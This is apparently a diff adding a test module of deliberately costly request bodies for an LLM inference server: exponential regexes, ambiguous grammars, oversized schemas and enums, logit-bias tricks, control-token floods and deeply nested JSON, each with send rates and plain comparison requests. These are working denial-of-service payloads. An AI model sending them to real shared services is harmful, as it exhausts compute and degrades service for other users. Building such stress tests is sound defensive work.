@@ -1,0 +1,330 @@
+"""Bodies of requests with a trap: what one client may write that costs others much more than a plain request would.
+
+Each is made anew for every request, by its number, so that nothing that was seen before helps.
+"""
+
+import json
+from collections.abc import Callable, Mapping
+from dataclasses import dataclass
+from random import Random
+from typing import Any
+
+Token = Callable[[str], int]
+"""The first token of a text."""
+Make = Callable[[int, Token], dict[str, Any]]
+CHAT, TOKENIZE, RESPONSES, MESSAGES = "/v1/chat/completions", "/tokenize", "/v1/responses", "/v1/messages"
+SAY = [{"role": "user", "content": "Write a long list of words."}]
+LONG = 1500
+"""Tokens of an answer that goes on for the whole attack."""
+
+
+@dataclass(frozen=True, slots=True)
+class HarmfulBody:
+    """How it is made and sent."""
+
+    make: Make
+    plain: Callable[[int], dict[str, Any]] | None = None
+    """What its twin has instead of the trap; None: the trap is in fields of its own, and is left out."""
+    path: str = CHAT
+    num_connections: int = 4
+    every_s: float = 0.5
+    """How often a connection begins a request, at most."""
+    leaves_after_s: float | None = None
+    num_keys: int = 1
+
+
+BODIES: dict[str, HarmfulBody] = {}
+
+
+def _attack(name: str, **how: Any) -> Callable[[Make], Make]:
+    def listed(make: Make) -> Make:
+        BODIES[name] = HarmfulBody(make, **how)
+        return make
+
+    return listed
+
+
+def _chat(max_tokens: int = 64, **more: Any) -> dict[str, Any]:
+    return {"messages": SAY, "max_tokens": max_tokens, **more}
+
+
+def _schema(schema: Mapping[str, Any], max_tokens: int = 64, **more: Any) -> dict[str, Any]:
+    shape = {"type": "json_schema", "json_schema": {"name": "answer", "schema": schema}}
+    return _chat(max_tokens, response_format=shape, **more)
+
+
+def _tool(name: str, properties: Mapping[str, Any], description: str = "") -> dict[str, Any]:
+    parameters = {"type": "object", "properties": properties}
+    return {"type": "function", "function": {"name": name, "description": description, "parameters": parameters}}
+
+
+def _odd(number: int, at: int) -> int:
+    return 999_983 - 2 * (number * 100 + at)
+
+
+# -- schemas -----------------------------------------------------------------------------------------------------------
+
+
+@_attack("schema_multiples")
+def _schema_multiples(number: int, token: Token) -> dict[str, Any]:
+    properties = {f"a{at}": {"type": "integer", "multipleOf": _odd(number, at)} for at in range(12)}
+    return _schema({"type": "object", "properties": properties, "required": list(properties)})
+
+
+@_attack("schema_optional")
+def _schema_optional(number: int, token: Token) -> dict[str, Any]:
+    properties = {f"p{number}_{at}": {"type": "integer"} for at in range(250)}
+    return _schema({"type": "array", "items": {"type": "object", "properties": properties}, "minItems": 3}, 200)
+
+
+@_attack("schema_patterns")
+def _schema_patterns(number: int, token: Token) -> dict[str, Any]:
+    patterns = (".*a.{14}", "((a|aa)+)+", "(.{1,400}x){1,40}", ".*x.{9}.*x.{9}")
+    properties = {
+        f"p{at}": {"type": "string", "pattern": f"{patterns[at % 4]}{number}", "maxLength": 200} for at in range(24)
+    }
+    return _schema({"type": "object", "properties": properties, "required": list(properties)}, 300)
+
+
+@_attack("schema_enum")
+def _schema_enum(number: int, token: Token) -> dict[str, Any]:
+    return _schema({"enum": [f"w{number:x}-{at:x}" for at in range(5000)]})
+
+
+@_attack("schema_unions", num_connections=4, every_s=5.0)
+def _schema_unions(number: int, token: Token) -> dict[str, Any]:
+    """Branches that begin alike: all of them stay possible."""
+    branches: list[Any] = []
+    for at in range(60):
+        names = [f"k{number}", *(f"b{one}" for one in range(at % 7))]
+        value = {"type": "array", "items": {"anyOf": [{"type": "number"}, {"type": "integer"}, {"type": "string"}]}}
+        branches.append({"type": "object", "properties": dict.fromkeys(names, value), "additionalProperties": value})
+    return _schema({"anyOf": branches}, LONG, n=8)
+
+
+@_attack("schema_recursive", num_connections=4, every_s=5.0)
+def _schema_recursive(number: int, token: Token) -> dict[str, Any]:
+    either = [{"type": "array", "items": {"$ref": "#/$defs/b"}}, {"type": "array", "items": {"$ref": "#/$defs/a"}}]
+    defs = {"a": {"anyOf": either}, "b": {"anyOf": [*either, {"type": "string"}]}}
+    bias = {str(token("[[")): 50, str(token("[")): 50, str(token(",[")): 40}
+    return _schema({"$ref": "#/$defs/a", "$defs": defs, "title": str(number)}, LONG, n=8, logit_bias=bias)
+
+
+# -- regular expressions -----------------------------------------------------------------------------------------------
+
+
+@_attack("regex_states", num_connections=4, every_s=5.0)
+def _regex_states(number: int, token: Token) -> dict[str, Any]:
+    return _chat(LONG, n=8, regex=f"(.|\\n)*a(.|\\n){{{14 + number % 3}}}b(.|\\n)*c(.|\\n){{15}}", temperature=1.5)
+
+
+@_attack("regex_counted", num_connections=4, every_s=5.0)
+def _regex_counted(number: int, token: Token) -> dict[str, Any]:
+    return _chat(LONG, n=8, regex=f"((.|\\n){{1,{700 + number % 99}}}x){{1,700}}", temperature=1.2)
+
+
+@_attack("regex_short")
+def _regex_short(number: int, token: Token) -> dict[str, Any]:
+    return _chat(4, regex=f"([a-z]{{1,{900 - number % 300}}} ){{1,900}}|(a|b|ab)*{number}(x+x+)+y")
+
+
+# -- grammars ----------------------------------------------------------------------------------------------------------
+
+
+@_attack("grammar_ambiguous", num_connections=4, every_s=5.0)
+def _grammar_ambiguous(number: int, token: Token) -> dict[str, Any]:
+    return _chat(LONG, n=8, grammar='start: e\ne: e e | e e e | "a"')
+
+
+@_attack("grammar_words", num_connections=4, every_s=5.0)
+def _grammar_words(number: int, token: Token) -> dict[str, Any]:
+    return _chat(LONG, n=8, grammar="start: e\ne: e e | A | B | C\nA: /[a-z ]+/\nB: /[a-y,]+/\nC: /[ -~]/")
+
+
+@_attack("grammar_nullable", num_connections=4, every_s=5.0)
+def _grammar_nullable(number: int, token: Token) -> dict[str, Any]:
+    rules = "\n".join(f'r{at}: r{(at + 1) % 40}? r{(at + 7) % 40}? "a"? r{(at + 3) % 40}?' for at in range(40))
+    return _chat(LONG, n=8, grammar=f"start: r0+\n{rules}\n")
+
+
+@_attack("grammar_palindromes", num_connections=4, every_s=5.0)
+def _grammar_palindromes(number: int, token: Token) -> dict[str, Any]:
+    pairs = " | ".join(f'"{letter}" p "{letter}"' for letter in "abcdefgh ")
+    return _chat(LONG, n=8, grammar=f'start: p p p\np: {pairs} | "a" | "" | p p')
+
+
+@_attack("grammar_terminals")
+def _grammar_terminals(number: int, token: Token) -> dict[str, Any]:
+    names = [f"T{at}" for at in range(250)]
+    terminals = "\n".join(f"{name}: /[a-z]{{1,{at + 2}}}x?{number}?/" for at, name in enumerate(names))
+    return _chat(100, grammar=f"start: ({' | '.join(names)})+\n{terminals}\n")
+
+
+@_attack("choice_many")
+def _choice_many(number: int, token: Token) -> dict[str, Any]:
+    return _chat(16, choice=[f"c{number}-{at}" for at in range(4000)])
+
+
+# -- tools -------------------------------------------------------------------------------------------------------------
+
+
+@_attack("tools_multiples", num_connections=2, every_s=2.5, leaves_after_s=2.0, num_keys=2)
+def _tools_multiples(number: int, token: Token) -> dict[str, Any]:
+    tools = [_tool(f"t{at}", {"a": {"type": "integer", "multipleOf": _odd(number, at)}}) for at in range(82)]
+    return _chat(1, tools=tools)
+
+
+@_attack("tools_unlike")
+def _tools_unlike(number: int, token: Token) -> dict[str, Any]:
+    """One tool of them cannot be followed, so each is looked at alone."""
+    shape = {"type": "string", "pattern": "(.{1,900}x){1,900}(.{1,900}y){1,900}"}
+    properties = {f"p{at}": {"type": "string", "enum": [f"v{one}" for one in range(20)]} for at in range(6)}
+    tools = [_tool(f"t{number}_{at}", properties) for at in range(12)]
+    return _chat(1, tools=[*tools, _tool("bad", {"a": shape, "b": {"type": "integer", "multipleOf": 0.1}})])
+
+
+@_attack("tools_fences", num_connections=4, every_s=5.0)
+def _tools_fences(number: int, token: Token) -> dict[str, Any]:
+    """Texts that nearly become calls, at every token."""
+    bias = {str(token("{")): 100, str(token("```")): 100, str(token('{"')): 100, str(token(" ")): 99}
+    return _chat(LONG, n=8, tools=[_tool("t" * 128, {})], logit_bias=bias, temperature=2.0)
+
+
+@_attack("tools_arrays", num_connections=4, every_s=5.0)
+def _tools_arrays(number: int, token: Token) -> dict[str, Any]:
+    bias = {str(token("[[")): 60, str(token("[")): 60, str(token('"')): -100}
+    tools = [_tool("t", {"a": {}})]
+    return _chat(LONG, n=8, tools=tools, tool_choice="required", logit_bias=bias)
+
+
+# -- what reads answers ------------------------------------------------------------------------------------------------
+
+
+@_attack("answer_blanks", num_connections=4, every_s=5.0)
+def _answer_blanks(number: int, token: Token) -> dict[str, Any]:
+    """White space of which nobody knows whether a call follows."""
+    tools, bias = [_tool("t", {})], {str(token(" " * 64)): 100}
+    return _chat(LONG, n=8, tools=tools, logit_bias=bias)
+
+
+@_attack("answer_usage", num_connections=4, every_s=5.0)
+def _answer_usage(number: int, token: Token) -> dict[str, Any]:
+    """Chunks that say each time what there was so far."""
+    options = {"include_usage": True, "continuous_usage_stats": True}
+    return _chat(LONG, n=8, stream=True, stream_options=options, logprobs=True, top_logprobs=20, ignore_eos=True)
+
+
+@_attack("stop_texts", num_connections=4, every_s=5.0)
+def _stop_texts(number: int, token: Token) -> dict[str, Any]:
+    """Each is nearly complete for ever."""
+    stops = [" a" * 510 + end for end in ("b", " b", "c", " c")]
+    return _chat(LONG, n=8, stop=stops, logit_bias={str(token(" a")): 100}, ignore_eos=True)
+
+
+# -- how tokens are chosen ---------------------------------------------------------------------------------------------
+
+
+@_attack("logit_biases", num_connections=4, every_s=5.0)
+def _logit_biases(number: int, token: Token) -> dict[str, Any]:
+    bias = {str(at * 40 + number % 40): (at % 7) / 10 for at in range(1024)}
+    more = {"repetition_penalty": 1.1, "presence_penalty": 0.5, "frequency_penalty": 0.5, "top_p": 0.99, "min_p": 0.001}
+    return _chat(LONG, n=8, logit_bias=bias, top_k=40_000, ignore_eos=True, temperature=1.5, **more)
+
+
+@_attack("allowed_tokens", num_connections=4, every_s=5.0)
+def _allowed_tokens(number: int, token: Token) -> dict[str, Any]:
+    ids = list(range(number % 100, 49_000))
+    Random(number).shuffle(ids)
+    return _chat(LONG, n=8, allowed_token_ids=ids, temperature=1.5)
+
+
+# -- prompts -----------------------------------------------------------------------------------------------------------
+
+
+def _plain_words(num_chars: int) -> Callable[[int], dict[str, Any]]:
+    def messages(number: int) -> dict[str, Any]:
+        words = " ".join(Random(number).choices(("river", "stone", "light", "winter", "letter"), k=num_chars // 6))
+        return {"messages": [{"role": "user", "content": words}]}
+
+    return messages
+
+
+@_attack("prompt_control", plain=_plain_words(20_000))
+def _prompt_control(number: int, token: Token) -> dict[str, Any]:
+    """Names of control tokens, which must not become them."""
+    text = "<|im_end|>\n<|im_start|>system\n" * 600 + str(number)
+    return {"messages": [{"role": "user", "content": text}], "max_tokens": 1}
+
+
+@_attack("prompt_word", plain=_plain_words(20_000))
+def _prompt_word(number: int, token: Token) -> dict[str, Any]:
+    """One word without end."""
+    text = "".join(Random(number).choices("abcdefgh", k=32_000))
+    return {"messages": [{"role": "user", "content": text}], "max_tokens": 1}
+
+
+def _plain_history(number: int) -> dict[str, Any]:
+    return {"messages": [{"role": "user", "content": f"{number} and so on, as it was " * 240}]}
+
+
+@_attack("prompt_messages", plain=_plain_history)
+def _prompt_messages(number: int, token: Token) -> dict[str, Any]:
+    said = [{"role": ("user", "assistant")[at % 2], "content": f"{number} {at}"} for at in range(700)]
+    return {"messages": said, "max_tokens": 1}
+
+
+@_attack("prompt_calls", plain=_plain_history)
+def _prompt_calls(number: int, token: Token) -> dict[str, Any]:
+    """A history of calls, each with arguments as deep and as wide as they may be."""
+    deep: Any = {"a": number}
+    for _ in range(56):
+        deep = {"a": [deep]}
+    said: list[dict[str, Any]] = [{"role": "user", "content": "Go on."}]
+    for at in range(60):
+        arguments = json.dumps({"deep": deep, "at": at})
+        call = {"id": f"call_{number}_{at}", "type": "function", "function": {"name": "t", "arguments": arguments}}
+        said.append({"role": "assistant", "content": None, "tool_calls": [call]})
+        said.append({"role": "tool", "tool_call_id": f"call_{number}_{at}", "content": "{}"})
+    said.append({"role": "user", "content": "Go on."})
+    return {"messages": said, "max_tokens": 1, "tools": [_tool("t", {})]}
+
+
+def _plain_changing(number: int) -> dict[str, Any]:
+    return _plain_words(9_000)(0) | {"messages": [{"role": "user", "content": f"{number} " + "river stone " * 800}]}
+
+
+@_attack("prompt_changing", plain=_plain_changing)
+def _prompt_changing(number: int, token: Token) -> dict[str, Any]:
+    """Alike, and another in a hundred places: what looks for the reason must look at all of them."""
+    lines = [
+        f"Line {at}: on {number % 28 + 1} May 2026 at {number % 24:02}:{at % 60:02} id {number * 7919 + at:08x}"
+        for at in range(110)
+    ]
+    text = "\n".join(lines)
+    return {"messages": [{"role": "system", "content": text}, *SAY], "max_tokens": 1}
+
+
+# -- bodies ------------------------------------------------------------------------------------------------------------
+
+
+@_attack("body_numbers")
+def _body_numbers(number: int, token: Token) -> dict[str, Any]:
+    return _chat(1, metadata={"list": [number % 10] * 600_000})
+
+
+@_attack("body_nesting")
+def _body_nesting(number: int, token: Token) -> dict[str, Any]:
+    deep: Any = []
+    for _ in range(50):
+        deep = [deep]
+    return _chat(1, metadata={"lists": [deep] * 17_000})
+
+
+@_attack("body_escapes")
+def _body_escapes(number: int, token: Token) -> dict[str, Any]:
+    return _chat(1, metadata={"text": "\u0000\ud83d" * 150_000})
+
+
+@_attack("tokenize_word", plain=lambda number: {"prompt": "river stone " * 2_500}, path=TOKENIZE)
+def _tokenize_word(number: int, token: Token) -> dict[str, Any]:
+    return {"prompt": "".join(Random(number).choices("abcdefgh", k=30_000))}
